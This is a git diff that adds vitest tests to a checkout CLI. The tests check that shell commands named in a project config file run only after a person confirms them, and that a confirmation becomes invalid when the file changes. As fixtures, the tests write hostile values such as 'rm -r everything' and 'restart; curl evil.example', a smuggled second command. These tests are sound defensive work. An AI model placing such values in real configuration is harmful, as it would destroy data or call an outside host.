@@ -1,8 +1,10 @@
-import { readFileSync, writeFileSync } from "node:fs";
+import { chmodSync, globSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect, test } from "vitest";
+import { COMMAND_LINES } from "../../src/cli/mcp/command-lines.ts";
 import { describedShop } from "../support/described-shop.ts";
 import { EPHEMERAL, type CommandOptions } from "../support/harness.ts";
+import { tempFolder } from "../support/temp-folder.ts";
 import { openWebhookSite } from "../support/webhook-site.ts";
 
 const SHOP = "http://localhost:3000";
@@ -127,4 +129,105 @@ test("shop init needs a terminal, and a file without a mistake", async () => {
   writeFileSync(join(harness.cwd, "checkout.config.json"), '{ "shop": { "colour": "red" } }');
   const broken = await init([]);
   expect([broken.code, broken.stderr]).toEqual([2, expect.stringContaining("colour")]);
+});
+
+const COMMANDS = {
+  create: "create-order",
+  order_view_command: "view",
+  paid_when: "paid",
+  restart: "restart",
+};
+
+/** A folder whose configuration has a section, and what runs there. */
+async function openConfigured() {
+  const opened = await openSite();
+  const { site, harness } = opened;
+  describedShop(site).open();
+  const write = (shop: object, folder = harness.cwd): void =>
+    writeFileSync(join(folder, "checkout.config.json"), JSON.stringify({ shop }));
+  write(COMMANDS);
+  return { ...opened, write };
+}
+
+const CHECKS = [
+  ["shop", "check"],
+  ["checklist", "run"],
+  ["checklist", "run", "duplicates"],
+  ["checklist", "run", "browser-return"],
+];
+
+test("no command of a file runs before a person has confirmed its section: exit 2 in CI", async () => {
+  const { harness, write } = await openConfigured();
+  for (const line of CHECKS) {
+    const { code, stdout, stderr } = await harness.run([...line, "--json"]);
+    expect([line, code, stdout]).toEqual([line, 2, ""]);
+    for (const [name, command] of Object.entries(COMMANDS))
+      expect(stderr.includes(`${name}: ${command}`)).toBe(name !== "paid_when");
+    expect(stderr).toContain("--trust-config");
+    const refused = await harness.run(line, { typed: [["would run", ""]], env: PLAIN });
+    expect([line, refused.code]).toEqual([line, 130]);
+  }
+  // One command is replaced: the others are still of the file.
+  const replaced = await harness.run(["shop", "check", "--create", "create-order"]);
+  expect([replaced.code, replaced.stderr]).toEqual([2, expect.stringContaining("create: create-order")]);
+  for (const name of ["create", "order_view_command", "serve", "restart"]) {
+    write({ order_view: `${SHOP}/orders/{order_id}`, paid_when: "paid", [name]: "rm -r everything" });
+    const one = await harness.run(["shop", "check"]);
+    expect([name, one.code]).toEqual([name, 2]);
+  }
+  expect(harness.commands).toEqual([]);
+});
+
+test("a confirmation is of this section in this folder: a changed one and another folder ask again", async () => {
+  const { harness, write } = await openConfigured();
+  const asked = await harness.run(["shop", "check"], { typed: [["would run", "y"]], env: PLAIN });
+  expect(harness.commands.map(({ commandLine }) => commandLine)).toContain("create-order");
+  expect(asked.stderr).toContain("order_view_command: view");
+  const silent = await harness.run(["shop", "check"]);
+  expect(silent.code).not.toBe(2);
+  const count = harness.commands.length;
+  write({ ...COMMANDS, restart: "restart; curl evil.example" });
+  expect((await harness.run(["shop", "check"])).code).toBe(2);
+  write({ ...COMMANDS, settle: "5s" });
+  expect((await harness.run(["shop", "check"])).code).toBe(2);
+  const elsewhere = tempFolder();
+  write(COMMANDS, elsewhere);
+  expect((await harness.run(["shop", "check"], { cwd: elsewhere })).code).toBe(2);
+  expect(harness.commands.length).toBe(count);
+  // As it was: nothing to ask.
+  write(COMMANDS);
+  expect((await harness.run(["shop", "check"])).code).not.toBe(2);
+  // CI trusts the file as long as it says so.
+  write({ ...COMMANDS, settle: "6s" });
+  expect((await harness.run(["shop", "check", "--trust-config"])).code).not.toBe(2);
+  expect((await harness.run(["shop", "check"])).code).toBe(2);
+});
+
+test("a list of confirmations that others can write is not believed", async () => {
+  const { harness } = await openConfigured();
+  await harness.run(["shop", "check"], { typed: [["would run", "y"]], env: PLAIN });
+  chmodSync(join(harness.settings, "hosted-checkout", "trusted-shops.json"), 0o666);
+  expect((await harness.run(["shop", "check"])).code).toBe(2);
+});
+
+test("a command of the section reads an id from its environment", async () => {
+  const { harness, write } = await openConfigured();
+  write({ ...COMMANDS, create: "create {order_id}" });
+  const { code, stderr } = await harness.run(["shop", "check", "--trust-config"]);
+  expect([code, stderr]).toEqual([2, expect.stringContaining("shop.create")]);
+  expect(stderr).toContain("$CHECKOUT_ORDER_ID");
+});
+
+test("neither a tool of the MCP server nor an address of the sandbox judges by the section", () => {
+  const values = { id: "x", what: "orders", type: "t", object: "order", order_id: "o", action: "drop" };
+  const lines = Object.values(COMMAND_LINES).flatMap((line) =>
+    (line as (input: typeof values) => readonly (readonly string[])[])(values),
+  );
+  expect(lines.length).toBeGreaterThan(8);
+  const runs = lines.filter(([one, two]) => one === "shop" || one === "explore" || two === "run");
+  expect(runs).toEqual([]);
+  const sources = globSync("src/sandbox/**/*.ts").filter((file) =>
+    /merchant-command|cli\/judge|client\/judge/.test(readFileSync(file, "utf8")),
+  );
+  expect(sources).toEqual([]);
 });
